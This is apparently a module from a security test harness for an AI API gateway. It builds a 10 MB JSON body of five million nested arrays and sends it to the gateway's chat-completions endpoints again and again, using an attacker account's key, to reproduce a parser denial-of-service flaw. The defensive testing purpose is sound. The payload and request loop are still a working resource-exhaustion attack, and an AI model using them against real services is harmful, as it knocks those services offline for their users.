// Deep JSON: a 10 MB body of 5 M nested arrays, under the default 20 MiB limit (issue 7). Sent
// through the attacker's own tunnel (/t/<id>/v1) or the unified /v1 (parsed before any lookup).
import { request } from 'undici';

/** The body: '{"model":"x","messages":[],"n":' + '['.repeat(n) + ']'.repeat(n) + '}'. */
export function deepBody(levels, model = 'x') {
  return Buffer.from(`{"model":${JSON.stringify(model)},"messages":[],"n":${'['.repeat(levels)}${']'.repeat(levels)}}`);
}

/** Sends the body again and again until the window closes; one at a time (each may stall the server for seconds). */
export async function deepJson(t, { unified, durationMs, levels = 5e6 }) {
  const body = deepBody(levels, unified ? `${t.attacker.tunnelName}/m` : 'x');
  const url = unified ? `${t.gateway}/v1/chat/completions` : `${t.gateway}/t/${t.attacker.tunnelId}/v1/chat/completions`;
  const statuses = {};
  const until = Date.now() + durationMs;
  let sent = 0;
  do {
    sent++;
    try {
      const res = await request(url, {
        method: 'POST',
        headers: { authorization: `Bearer ${t.attacker.apiKey}`, 'content-type': 'application/json' },
        body,
        headersTimeout: 120_000,
        bodyTimeout: 120_000,
      });
      await res.body.text();
      statuses[res.statusCode] = (statuses[res.statusCode] ?? 0) + 1;
    } catch (err) {
      statuses[err.code ?? 'error'] = (statuses[err.code ?? 'error'] ?? 0) + 1;
    }
  } while (Date.now() < until);
  return { outcome: `${sent}× ${(body.length / 1e6).toFixed(0)} MB → ${fmtStatuses(statuses)}` };
}

export function fmtStatuses(statuses) {
  return Object.entries(statuses)
    .sort((a, b) => b[1] - a[1])
    .map(([s, n]) => `${s}×${n}`)
    .join(' ') || 'none';
}
